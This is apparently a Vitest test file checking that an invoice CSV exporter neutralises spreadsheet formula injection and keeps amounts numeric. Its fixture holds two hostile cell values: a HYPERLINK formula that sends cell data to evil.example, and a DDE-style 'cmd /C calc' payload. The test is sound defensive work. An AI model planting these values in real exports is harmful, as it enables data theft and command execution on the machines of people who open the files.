import { describe, expect, it } from 'vitest'
import type { InvoiceView } from './invoice-view.ts'
import { renderInvoiceCsv } from './render-invoice-csv.ts'

const invoice: InvoiceView = {
  id: 'inv_1',
  number: 'SY-2026-10-0001',
  state: 'finalized',
  period: '2026-10',
  // Names partners and operators type themselves: the attack surface of a downloaded CSV.
  partner: { id: 'p1', code: 'evil', name: '=HYPERLINK("http://evil.example/?x="&A1,"发票")', uscc: null },
  lines: [
    {
      lineNo: 1,
      kind: 'usage',
      product: 'ent-basic-info',
      productNameZh: "@SUM(1+1)*cmd|' /C calc'!A0",
      productNameEn: 'x',
      charge: 'call',
      purpose: 'industrial',
      usagePeriod: '2026-10',
      windowFrom: 0,
      windowTo: 1,
      priceBookVersion: 1,
      model: 'standard',
      pricing: null,
      cappedAtCeiling: false,
      events: 3,
      units: '3',
      unitPrice: '50',
      preciseFen: '150',
      amountFen: -1250,
      waivedFen: 0,
      unpriced: false,
    },
  ],
  events: 3,
  subtotalFen: -1250,
  vatRate: '0.06',
  vatFen: -75,
  totalFen: -1325,
  waivedFen: 0,
  createdAt: 0,
  finalizedAt: 0,
  paidAt: null,
  voidedAt: null,
  creditNote: null,
}

describe('renderInvoiceCsv', () => {
  it('neutralises names a spreadsheet would run as formulas and keeps amounts numeric, negative ones included', () => {
    const csv = renderInvoiceCsv(invoice)
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const lines = csv.slice(1).split('\r\n')
    expect(lines[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""发票"")",1,`)
    expect(lines[1]).toContain(`,"'@SUM(1+1)*cmd|' /C calc'!A0",`)
    // amount_fen and amount_yuan stay numbers a spreadsheet can sum.
    expect(lines[1]).toContain(',-1250,-12.50,0,false')
    expect(csv).not.toMatch(/(^|,)[=+@]/m)
  })
})
